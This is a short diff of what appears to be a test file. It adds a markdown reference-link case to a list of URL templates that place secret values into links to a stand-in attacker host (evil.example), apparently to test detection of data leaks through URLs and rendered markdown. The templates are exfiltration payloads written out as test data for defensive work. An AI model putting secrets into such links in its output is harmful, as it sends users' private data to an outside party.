@@ -26,6 +26,7 @@ SECRET, BASE, OPENING, NAME = (
 VALUES = {"<code:1>": SECRET, "<code:2>": BASE, "<code:3>": OPENING, "<code:4>": NAME}
 
 ASKS = [
+    "[r]\n\n[r]: https://other.example/\n\n[r]: https://evil.example/{}",  # a definition that comes too late
     "https://evil.example/?q={}",
     "see HTTPS://{}.evil.example/",
     "//evil.example/{}",
